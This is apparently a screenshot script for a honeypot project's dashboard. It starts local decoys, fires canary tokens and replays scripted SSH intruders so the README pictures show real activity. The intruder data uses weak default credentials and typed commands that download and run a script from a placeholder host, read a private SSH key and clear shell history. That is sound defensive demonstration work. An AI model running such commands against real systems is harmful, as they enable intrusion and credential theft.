"""Pictures of the dashboard for README: the whole fleet, a short load, Debian's chromium.

    .venv/bin/python benchmarks/screenshots.py [--seconds 45] [--out docs/pictures]

Needs chromium and playwright (`.ci/clients` installs both where it may). What is shown was done by
scripted attackers to real decoys meanwhile; nothing is drawn by hand. Times differ from run to run.
"""

from __future__ import annotations

import argparse
import asyncio
import io
import os
import sys
import tempfile
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

import asyncssh
import httpx2
from PIL import Image

from benchmarks.screenshot_top import draw_top
from decnet.load.crowd import plan, send
from decnet.load.fleet import targets
from decnet.run.__main__ import FLEET, all_ready, surroundings
from decnet.run.manager import running
from decnet.run.prepare import prepare
from decnet.settings import Settings
from decnet.web.api import auth
from tests.support.browser import chromium, why_not

COLOURS = 256
BYTES_MOST = 150_000
RATE, SEED = 5.0, 11
LOOT = "cd /tmp; wget http://198.51.100.7/x.sh; chmod +x x.sh; ./x.sh"
INTRUDERS = (
    ("127.88.0.4", "aes256-ctr", "root", "toor", ("id", "uname -a", "cat /proc/cpuinfo", LOOT)),
    ("127.88.0.9", "aes256-ctr", "admin", "admin123", ("w", LOOT)),
    (
        "127.88.7.1",
        "aes128-ctr",
        "deploy",
        "Summer2026!",
        ("cat ~/.ssh/id_rsa", LOOT, "history -c"),
    ),
    ("127.88.7.3", "aes192-ctr", "root", "123456", ("ls -la /root", "crontab -l", LOOT)),
)
"""Address, the one cipher that this client has (so that clients differ), user, password, lines."""
Say = Callable[[str], None]


def main() -> int:
    """Parse, run; returns the exit code."""
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--seconds", type=float, default=45.0, help="how long the load lasts")
    parser.add_argument("--out", type=Path, default=Path("docs/pictures"))
    given = parser.parse_args()
    if reason := why_not():
        print(f"screenshots.py: {reason}", file=sys.stderr)
        return 1
    given.out.mkdir(parents=True, exist_ok=True)
    with surroundings(scratch=True) as env:
        os.environ.update(
            env, DECNET_CLUSTER_POLL_S="2", DECNET_CANARY_HTTP_BASE="http://files.example.org"
        )
        return asyncio.run(take(given.seconds, given.out))


async def take(seconds: float, out: Path) -> int:
    """Start, attack, look."""
    settings = Settings.from_env()
    settings.prepare()
    prepare()
    runtime = Path(os.environ["ZYGOTE_RUNTIME_DIR"])
    log = settings.state_dir / "manager.log"
    async with running(FLEET, runtime, dict(os.environ), log, say) as manager:
        await all_ready(manager, asyncio.Event(), lambda line: None)
        say(f"{seconds:.0f} s of load")
        found = await targets(runtime / "control.sock", settings)
        steps = plan(found, seconds, RATE, SEED)
        await send(steps, settings.decoy_host, asyncio.Event())
        await bait(settings)
        await intrude(settings)
        await asyncio.sleep(10)  # so that the clusterers have looked
        await draw_top(runtime / "control.sock", out / "top.svg")
        with tempfile.TemporaryDirectory() as home:
            async with chromium(Path(home)) as browser:
                await pages(browser, settings, out)
    return 0


async def intrude(settings: Settings) -> None:
    """Visitors who sit at a terminal and fetch the same program from the same place."""
    for source, cipher, user, password, lines in INTRUDERS:
        connection = asyncssh.connect(
            "127.0.0.1",
            settings.decoy_port("ssh"),
            username=user,
            password=password,
            known_hosts=None,
            config=None,
            client_keys=None,
            encryption_algs=[cipher],
            local_addr=(source, 0),
        )
        async with connection as at:
            async with at.create_process(term_type="xterm", term_size=(96, 28)) as process:
                for line in (*lines, "exit"):
                    for letter in f"{line}\r":
                        process.stdin.write(letter)
                        await asyncio.sleep(0.03)
                    await asyncio.sleep(0.4)
                await process.wait()


async def bait(settings: Settings) -> None:
    """A canary that is made, and rings."""
    base = f"http://{settings.api_host}:{settings.api_port}/api/v1"
    async with httpx2.AsyncClient(trust_env=False, headers=bearer(settings)) as client:
        for name in ("payroll-2026.xlsx", "vpn-config", "old-backup-keys"):
            made = (await client.post(f"{base}/canary/tokens", json={"name": name})).json()
        port = os.environ["DECNET_CANARY_PORT"]
        await client.get(f"http://127.0.0.1:{port}/c/{made['callback_token']}")


def bearer(settings: Settings) -> dict[str, str]:
    """What logs in."""
    return {"Authorization": f"Bearer {token(settings)}"}


def token(settings: Settings) -> str:
    """An admin's."""
    return auth.mint(settings.jwt_secret, "admin", "admin")


async def pages(browser: Any, settings: Settings, out: Path) -> None:
    """Every picture."""
    url = f"http://127.0.0.1:{os.environ['DECNET_WEB_PORT']}/#token={token(settings)}"
    async with browser.visitor(1280, 800, color_scheme="dark") as person:
        page = person.page
        await page.goto(url)
        for name, path, wait in (
            ("visits", "visits", ".stat"),
            ("fleet", "fleet", "tbody tr:nth-child(12)"),
            ("attackers", "attackers", "tbody tr"),
            ("graph", "graph", "svg a.campaign"),
            ("attack", "attack", ".cell"),
            ("canaries", "canaries", "h2 ~ div tbody tr"),
        ):
            await page.evaluate(f"location.hash = '#/{path}'")
            await page.locator(f"main {wait}").first.wait_for()
            if name == "visits":
                await page.get_by_label("Time shown").select_option("0")
                await page.wait_for_timeout(500)
            await picture(page.screenshot, out / f"dashboard-{name}.png")
        await page.evaluate(f"location.hash = '#/attackers/ip/{INTRUDERS[0][0]}'")
        await page.get_by_role("link", name="Replay").first.click()
        await page.get_by_text(" of ").first.wait_for()
        await picture(page.screenshot, out / "dashboard-session.png")
    async with browser.visitor(390, 780, color_scheme="light", is_mobile=True) as person:
        await person.page.goto(url)
        await person.page.locator("main .stat").first.wait_for()
        await picture(person.page.screenshot, out / "dashboard-phone.png")


async def picture(shoot: Callable[..., Awaitable[bytes]], file: Path) -> None:
    """Take one and write it with few colours: it shows text."""
    image = Image.open(io.BytesIO(await shoot()))
    small = image.convert("RGB").quantize(
        COLOURS, method=Image.Quantize.MEDIANCUT, dither=Image.Dither.NONE
    )
    small.save(file, optimize=True)
    size = file.stat().st_size
    assert size <= BYTES_MOST, f"{file} has {size} bytes"
    say(f"{file}: {size / 1000:.0f} kB")


def say(line: str) -> None:
    """Progress, for people."""
    print(f"screenshots.py: {line}", file=sys.stderr, flush=True)


if __name__ == "__main__":
    sys.exit(main())
